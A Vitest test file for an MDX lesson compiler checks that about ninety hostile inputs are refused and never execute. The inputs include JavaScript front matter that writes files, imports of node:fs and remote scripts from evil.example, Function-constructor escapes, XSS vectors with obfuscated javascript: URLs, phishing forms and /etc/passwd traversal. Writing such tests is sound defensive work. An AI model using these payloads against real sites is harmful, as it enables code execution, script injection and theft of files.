import { existsSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test, vi } from 'vitest';
import { compileMdx, MdxProblem } from './compile-mdx.server.ts';
import { renderMdx } from './render-mdx.server.ts';

// What an older allow-list let through must not come from the disk.
vi.hoisted(() => {
  process.env['HOPWISE_MDX_CACHE'] = `/tmp/hopwise-mdx-test-${process.pid}`;
});
const CANARY = path.join(tmpdir(), `hopwise-mdx-canary-${process.pid}`);
const touch = `require('fs').writeFileSync(${JSON.stringify(CANARY)}, 'x')`;
const global_ = globalThis as { mdxExecuted?: boolean };
const mark = 'globalThis.mdxExecuted = true';
const js = (fence: string) => `${fence}\n${touch}; ${mark}; module.exports = {}\n---\n\nText`;

/** Every row tries to run code, to read the server, or to put something into the page that authors may not. */
const HOSTILE: readonly [name: string, source: string][] = [
  ['front matter in js', js('---js')],
  ['front matter in javascript', js('---javascript')],
  ['front matter in js after a space', js('--- js')],
  ['front matter in coffee', js('---coffee')],
  ['front matter in coffeescript', js('---coffeescript')],
  ['front matter in cson', js('---cson')],
  ['front matter in js behind a byte order mark', js('\uFEFF---js')],
  ['front matter in js with carriage returns', js('---js').replaceAll('\n', '\r\n')],
  ['front matter in js after a blank', js(' ---js')],
  ['front matter in json', '---json\n{"a":1}\n---\nText'],
  ['front matter in toml', '+++\na = 1\n+++\nText'],
  ['front matter that is not closed', '---\na: 1\nText'],
  ['front matter with a function tag', '---\na: !!js/function "function(){}"\n---\nText'],
  ['front matter too deep', `---\na: ${'['.repeat(2000)}\n---\nText`],
  ['an export', `export const x = (${mark})\n\nText`],
  ['an export of the environment', 'export const x = process.env\n\n{x.PATH}'],
  ['an export of a default layout', 'export default function Layout() { return null }\n\nText'],
  ['a re-export', "export * from 'fs'\n\nText"],
  ['an import of a file', "import pkg from './package.json'\n\n{pkg.name}"],
  ['an import of a module', "import fs from 'node:fs'\n\nText"],
  ['an import for its effects', "import 'node:child_process'\n\nText"],
  ['an import by address', "import x from 'https://evil.example/x.js'\n\nText"],
  ['a dynamic import', "{import('node:fs')}"],
  ['an expression', `{${mark}}`],
  ['an expression in a paragraph', `Text {${mark}} text`],
  ['an expression in a heading', `# Title {${mark}}`],
  ['an expression in a table', `| a |\n| - |\n| {${mark}} |`],
  ['an expression in a list', `- {${mark}}`],
  ['an expression in a quote', `> {${mark}}`],
  ['an expression in emphasis', `*{${mark}}*`],
  ['an expression in a link', `[{${mark}}](https://kubernetes.io)`],
  ['an empty comment expression', 'Text {/* comment */}'],
  ['the environment', '{process.env.PATH}'],
  ['a constructor of functions', "{[].constructor.constructor('return process')()}"],
  ['an immediately called function', `{(() => { ${mark} })()}`],
  ['a template literal', `{\`\${${mark}}\`}`],
  ['an attribute with an expression', `<Callout kind={${mark}}>x</Callout>`],
  ['an attribute with a template', '<Callout kind={`say`}>x</Callout>'],
  ['an attribute with an element', '<Callout kind=<b/>>x</Callout>'],
  ['a spread', `<Callout {...(${mark}, {})}>x</Callout>`],
  ['a spread of the environment', '<Callout {...process.env}>x</Callout>'],
  ['an expression between tags', `<Callout kind="say">{${mark}}</Callout>`],
  ['inner HTML', '<Callout dangerouslySetInnerHTML={{__html: "<img onerror=alert(1)>"}} />'],
  ['inner HTML as text', '<Callout dangerouslySetInnerHTML="x">x</Callout>'],
  ['a script', '<script>alert(1)</script>'],
  ['a script by address', '<script src="https://evil.example/x.js"></script>'],
  ['a style', '<style>body{display:none}</style>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['an object', '<object data="x"></object>'],
  ['an embed', '<embed src="x" />'],
  ['a form', '<form action="https://evil.example"><input name="password" /></form>'],
  ['a base', '<base href="https://evil.example/" />'],
  ['a meta refresh', '<meta httpEquiv="refresh" content="0;url=https://evil.example" />'],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css" />'],
  ['an image with a handler', '<img src="x" onError="alert(1)" />'],
  ['an svg with a handler', '<svg onLoad="alert(1)" />'],
  ['a plain element', '<div>x</div>'],
  ['an anchor', '<a href="javascript:alert(1)">x</a>'],
  ['a member element', '<React.Fragment>x</React.Fragment>'],
  ['a namespaced element', '<svg:script>x</svg:script>'],
  ['a fragment', '<>x</>'],
  ['an unknown component', '<Quiz id="x" />'],
  ['a component named like an inherited property', '<Constructor />'],
  ['an element named toString', '<toString />'],
  ['an unknown attribute', '<Callout kind="say" onClick="alert(1)">x</Callout>'],
  ['an attribute named __proto__', '<Callout __proto__="x">x</Callout>'],
  ['a ref', '<Callout kind="say" ref="x">x</Callout>'],
  ['a namespaced attribute', '<Callout xlink:href="javascript:alert(1)">x</Callout>'],
  ['a value outside the list', '<Callout kind="loud">x</Callout>'],
  ['an attribute twice', '<Callout kind="say" kind="since">x</Callout>'],
  [
    'a scenario that climbs',
    '<Figure scenario="../../etc/passwd" from="a/b" url="http://x/" title="t" />',
  ],
  ['a javascript address', '[x](javascript:alert(1))'],
  ['a javascript address in capitals', '[x](JaVaScRiPt:alert(1))'],
  ['a javascript address behind an entity', '[x](&#106;avascript:alert(1))'],
  ['a javascript address with a tab', '[x](java&#9;script:alert(1))'],
  ['a javascript autolink', '[x](<javascript:alert(1)>)'],
  ['a data address', '[x](data:text/html,<script>alert(1)</script>)'],
  ['a vbscript address', '[x](vbscript:msgbox)'],
  ['a file address', '[x](file:///etc/passwd)'],
  ['an http address', '[x](http://evil.example)'],
  ['an address without a scheme', '[x](//evil.example)'],
  ['an address with a backslash', '[x](/\\\\evil.example)'],
  ['a reference with a javascript address', '[x][1]\n\n[1]: javascript:alert(1)'],
  ['an image', '![x](https://evil.example/pixel.png)'],
  ['a code fence with options', '```yaml {1} onload=x\na: 1\n```'],
  ['a code fence in an unknown language', '```js\nalert(1)\n```'],
  ['a footnote', 'x[^1]\n\n[^1]: note'],
  ['more than 200 kilobytes', 'word '.repeat(50_000)],
  ['quotes too deep', `${'> '.repeat(120)}x`],
];

test.each(HOSTILE)('%s is refused and nothing runs', async (_name, source) => {
  rmSync(CANARY, { force: true });
  delete global_.mdxExecuted;
  await expect(compileMdx(source, 'lesson.mdx')).rejects.toThrow(MdxProblem);
  expect(global_.mdxExecuted).toBeUndefined();
  expect(existsSync(CANARY)).toBe(false);
});

test('the corpus has more than sixty payloads', () => {
  expect(HOSTILE.length).toBeGreaterThan(60);
});

const BENIGN = `---
title: A lesson
---

# Title

A *Service* has **one** \`ClusterIP\`, see [the docs](https://kubernetes.io/docs/) and [the map](/learn).

<Callout kind="say">The address is a match in a rule.</Callout>

| a | b |
| - | - |
| 1 | 2 |

\`\`\`yaml
kind: Service
\`\`\`

<Question id="first" purpose="predict" />

Three more words
`;

test('prose and the palette compile, render and are outlined', async () => {
  const { code, frontMatter, outline } = await compileMdx(BENIGN, 'lesson.mdx');
  expect(frontMatter).toEqual({ title: 'A lesson' });
  expect(outline.headings).toEqual([{ depth: 1, text: 'Title' }]);
  expect(outline.links).toEqual(['https://kubernetes.io/docs/', '/learn']);
  expect(outline.elements.map(({ name }) => name)).toEqual(['Callout', 'Question']);
  expect(outline.wordRuns).toEqual([24, 3]);
  const html = renderToStaticMarkup(
    renderMdx(code, {
      Callout: ({ children }: { children?: string }) => createElement('aside', null, children),
      Question: ({ id }: { id: string }) => createElement('section', { id }),
    }),
  );
  expect(html).toContain('<h1 id="title">Title</h1>');
  expect(html).toContain('<section id="first"></section>');
  expect(html).toContain('<td>2</td>');
});

test('a problem names the file and the line of the file', async () => {
  await expect(
    compileMdx('---\ntitle: x\n---\n\nText\n\n<div/>\n', 'a/lesson.mdx'),
  ).rejects.toThrow(/^a\/lesson\.mdx: line 7: <div> is not an element of the palette$/);
});

test('a scene has one figure: a second one would cover it', async () => {
  const figure = '<Figure scenario="a" from="b/c" url="http://d/" title="e" />';
  const scene = (...parts: string[]) => ['<Scene>', ...parts, '</Scene>'].join('\n\n');
  await expect(compileMdx(scene(figure, 'Text', figure), 'lesson.mdx')).rejects.toThrow(
    /a <Scene> has one <Figure>$/,
  );
  const two = [scene(figure), scene(figure, 'Text')].join('\n\n');
  expect((await compileMdx(two, 'lesson.mdx')).outline.elements).toHaveLength(4);
});
